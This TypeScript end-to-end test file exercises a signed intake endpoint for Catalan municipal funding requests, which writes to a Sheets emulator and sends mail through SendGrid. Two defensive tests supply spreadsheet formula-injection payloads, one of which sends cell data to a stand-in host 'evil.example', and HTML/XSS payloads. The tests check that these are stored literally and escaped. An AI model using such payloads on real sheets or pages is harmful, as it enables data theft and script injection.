// The walking skeleton end to end: signed HTTP → function (through the functions
// framework) → Sheets emulator → SendGrid sink, with the production adapters.
import { afterAll, beforeAll, describe, expect, test, vi } from 'vitest';
import { localStamp } from '../../shared/domain/dates';
import { sign } from '../../shared/domain/signature';
import { IN_CALL_2020_04, readLog, readRequests, receiveOn, startTestStack, type TestStack } from '../support/stack';
import { validBody } from '../support/submissions';

let stack: TestStack;
beforeAll(async () => {
  stack = await startTestStack();
  receiveOn(IN_CALL_2020_04);
});
afterAll(() => {
  vi.useRealTimers();
  return stack.close();
});

const j = (r: Response): Promise<any> => r.json();
const outbox = () => stack.sendgrid.messages().map((m) => m.body as Record<string, any>);

describe('intake answers', () => {
  test('201 with a reference: one row, a confirmation and a staff notice', async () => {
    const before = outbox().length;
    const res = await stack.post(validBody({ submissionId: 'ok-1' }));
    expect(res.status).toBe(201);
    const body = await j(res);
    expect(body).toEqual({ reference: '2020-04-001', flags: [] });
    const rows = (await readRequests(stack.api)).filter((r) => r.ID === 'ok-1');
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ Referència: '2020-04-001', Convocatòria: '2020-04', 'Ajuntament / Consell Comarcal': 'Sant Cugat del Vallès' });
    const mails = outbox().slice(before);
    expect(mails).toHaveLength(2);
    const confirmation = mails.find((m) => m.personalizations[0].to[0].email === 'nuria.puig@example.cat');
    expect(confirmation?.subject).toContain('2020-04-001');
    expect(confirmation?.custom_args).toMatchObject({ requestId: 'ok-1' });
    expect(mails.some((m) => m.personalizations[0].to.some((t: { email: string }) => t.email === 'secretaria@xmess.local'))).toBe(true);
    const log = (await readLog(stack.api)).filter((e) => e.requestId === 'ok-1');
    expect(log.map((e) => `${e.kind}:${e.state}`)).toEqual(
      expect.arrayContaining(['rebuda:registrat', 'confirmacio:pendent', 'confirmacio:enviat', 'avis_personal:enviat']),
    );
  });

  test('200 with the same reference when the same submissionId comes again', async () => {
    const first = await j(await stack.post(validBody({ submissionId: 'again-1' })));
    const mailsBefore = outbox().length;
    const res = await stack.post(validBody({ submissionId: 'again-1' }));
    expect(res.status).toBe(200);
    expect(await j(res)).toEqual(first);
    expect(outbox().length).toBe(mailsBefore);
    expect((await readRequests(stack.api)).filter((r) => r.ID === 'again-1')).toHaveLength(1);
  });

  test('the same submissionId 10 times at once: one row, one confirmation', async () => {
    const body = validBody({ submissionId: 'burst-same', contactEmail: 'burst@example.cat' });
    const answers = await Promise.all(Array.from({ length: 10 }, () => stack.post(body)));
    const statuses = answers.map((r) => r.status).sort();
    expect(statuses.filter((s) => s === 201)).toHaveLength(1);
    expect(statuses.filter((s) => s === 200)).toHaveLength(9);
    const refs = new Set(await Promise.all(answers.map(async (r) => (await j(r)).reference)));
    expect(refs.size).toBe(1);
    expect((await readRequests(stack.api)).filter((r) => r.ID === 'burst-same')).toHaveLength(1);
    const confirmations = outbox().filter((m) => m.personalizations[0].to[0].email === 'burst@example.cat');
    expect(confirmations).toHaveLength(1);
  });

  test('400 with Catalan field errors, and the submission is recorded in the log', async () => {
    const res = await stack.post(validBody({ submissionId: 'bad-1', contactEmail: 'no', need: '' }));
    expect(res.status).toBe(400);
    const body = await j(res);
    expect(body.fieldErrors.contactEmail[0]).toContain('Correu electrònic');
    expect(body.fieldErrors.need[0]).toContain('Necessitat');
    expect((await readRequests(stack.api)).some((r) => r.ID === 'bad-1')).toBe(false);
    const log = (await readLog(stack.api)).filter((e) => e.requestId === 'bad-1');
    expect(log.map((e) => e.kind)).toContain('invalida');
    expect(log.find((e) => e.kind === 'invalida')?.detail).toContain('Núria Puig');
  });

  test('a topic the call does not offer is a field error', async () => {
    const res = await stack.post(validBody({ submissionId: 'topic-1', topic: 'Astronàutica' }));
    expect(res.status).toBe(400);
    expect((await j(res)).fieldErrors.topic[0]).toContain('Àmbit temàtic');
  });

  test('401 for a bad, stale or future signature: nothing written', async () => {
    const logBefore = (await readLog(stack.api)).length;
    const body = validBody({ submissionId: 'sig-1' });
    const now = Math.floor(Date.now() / 1000);
    for (const res of [
      await stack.post(body, { secret: 'not-the-secret-at-all' }),
      await stack.post(body, { t: now - 600 }),
      await stack.post(body, { t: now + 600 }),
      await stack.post(body, { signature: 'garbage' }),
      await stack.post(body, { signature: sign(stack.functionEnv.INTAKE_SECRET!, '{"other":1}') }),
    ]) {
      expect(res.status).toBe(401);
      expect((await j(res)).error).toContain('signatura');
    }
    expect((await readLog(stack.api)).length).toBe(logBefore);
    expect((await readRequests(stack.api)).some((r) => r.ID === 'sig-1')).toBe(false);
  });

  test('413 over 256 KB, 415 when not JSON, 405 for GET', async () => {
    const big = validBody({ submissionId: 'big-1', need: 'x'.repeat(300_000) });
    expect((await stack.post(big)).status).toBe(413);
    const text = await stack.post(null, { raw: 'submissionId=1', contentType: 'text/plain' });
    expect(text.status).toBe(415);
    expect((await j(text)).error).toContain('JSON');
    expect((await fetch(`${stack.url}/intake`)).status).toBe(405);
  });

  test('late, non-member and repeated requests are recorded and flagged, never refused', async () => {
    receiveOn('2020-05-09T00:00:01+02:00');
    const res = await stack.post(
      validBody({ submissionId: 'late-1', municipality: 'Ajuntament de Mataró', submittedAt: '2020-05-09T00:00:01+02:00', contactEmail: 'mataro@example.cat' }),
    );
    expect(res.status).toBe(201);
    expect((await j(res)).flags).toEqual(['late', 'non_member']);
    const row = (await readRequests(stack.api)).find((r) => r.ID === 'late-1');
    expect(row).toMatchObject({ 'Fora de termini': 'TRUE', Membre: 'FALSE' });
    const mail = outbox().find((m) => m.personalizations[0].to[0].email === 'mataro@example.cat');
    expect(mail?.content.find((c: { type: string }) => c.type === 'text/plain').value).toContain('després del termini');
    receiveOn(IN_CALL_2020_04);

    const again = await stack.post(validBody({ submissionId: 'repeat-2', municipality: 'sant cugat del valles' }));
    expect((await j(again)).flags).toContain('repeated_in_call');
  });

  test('formula-looking input is stored and read back as the literal text', async () => {
    const payloads = {
      contactName: '=IMPORTXML("https://evil.example/?q="&A1,"//a")',
      contactRole: '+SUM(1,1)',
      need: '-1+1',
      expectedImpact: '@IMAGE("https://evil.example/x.png")',
      transferability: '=HYPERLINK("https://evil.example","clic")',
    };
    const res = await stack.post(validBody({ submissionId: 'formula-1', ...payloads }));
    expect(res.status).toBe(201);
    for (const render of ['FORMATTED_VALUE', 'FORMULA'] as const) {
      const row = (await readRequests(stack.api, render)).find((r) => r.ID === 'formula-1')!;
      expect(row['Persona de contacte']).toBe(payloads.contactName);
      expect(row['Càrrec']).toBe(payloads.contactRole);
      expect(row['Necessitat']).toBe(payloads.need);
      expect(row['Impacte previst']).toBe(payloads.expectedImpact);
      expect(row['Transferibilitat']).toBe(payloads.transferability);
    }
    const mail = outbox().find((m) => m.custom_args?.requestId === 'formula-1');
    const html = mail?.content.find((c: { type: string }) => c.type === 'text/html').value as string;
    expect(html).not.toContain('<script');
  });

  test('HTML typed by a user is escaped in every email', async () => {
    await stack.post(validBody({ submissionId: 'html-1', contactName: '<script>alert(1)</script>', need: '<img src=x onerror=alert(1)>' }));
    const mails = outbox().filter((m) => m.custom_args?.requestId === 'html-1' || m.categories?.includes('avis_personal'));
    for (const m of mails) {
      const html = m.content.find((c: { type: string }) => c.type === 'text/html').value as string;
      expect(html).not.toMatch(/<script|<img/);
    }
    expect(mails.length).toBeGreaterThan(0);
  });

  test('the sender does not choose the call: a forged submittedAt is kept and shown, and staff are told once', async () => {
    const forged = await stack.post(validBody({ submissionId: 'forged-1', submittedAt: '0000-01-01T00:00:00Z', contactEmail: 'forged@example.cat' }));
    expect(forged.status).toBe(201);
    expect((await j(forged)).flags).not.toContain('late'); // received on 4 May: on time, in the 2020-04 call
    receiveOn('2020-05-20T10:00:00+02:00');
    const backdated = await stack.post(validBody({ submissionId: 'backdated-1', submittedAt: '2020-05-01T10:00:00+02:00', contactEmail: 'back@example.cat' }));
    expect((await j(backdated)).flags).toContain('late'); // received after the deadline, whatever it says
    receiveOn(IN_CALL_2020_04);
    const rows = await readRequests(stack.api);
    expect(rows.find((r) => r.ID === 'forged-1')).toMatchObject({ Convocatòria: '2020-04', 'Fora de termini': 'FALSE' });
    // The sender's stamp, shown as every stamp in the sheet is (Catalan local time).
    expect(rows.find((r) => r.ID === 'forged-1')!['Data d’enviament']).toBe(localStamp(new Date('0000-01-01T00:00:00Z')));
    const received = (await readLog(stack.api)).filter((e) => e.kind === 'rebuda' && ['forged-1', 'backdated-1'].includes(e.requestId));
    for (const e of received) expect(e.detail).toContain('rellotge_desfasat');
    expect(received.find((e) => e.requestId === 'forged-1')!.detail).toContain('0000-01-01T00:00:00Z');
    const digests = async () => {
      await fetch(`${stack.url}/sweep`, { method: 'POST' });
      return outbox().filter((m) => m.custom_args?.kind === 'resum').map((m) => m.content.find((c: { type: string }) => c.type === 'text/plain').value as string);
    };
    const first = await digests();
    const skew = (texts: string[]) => texts.filter((x) => x.includes('hora de recepció')).join('\n');
    expect(skew(first)).toMatch(/2020-04-\d{3} difereix/);
    expect((skew(first).match(/difereix en més de 5 minuts/g) ?? []).length).toBeGreaterThanOrEqual(2);
    const again = (await digests()).slice(first.length);
    expect(skew(again), 'each told once').toBe('');
  });

  test('a submission made today lands in the open demo call, on time', async () => {
    vi.useRealTimers();
    const res = await stack.post(validBody({ submissionId: 'today-1', submittedAt: new Date().toISOString() }));
    expect(await j(res)).toMatchObject({ reference: 'DEMO-001', flags: [] });
  });
});
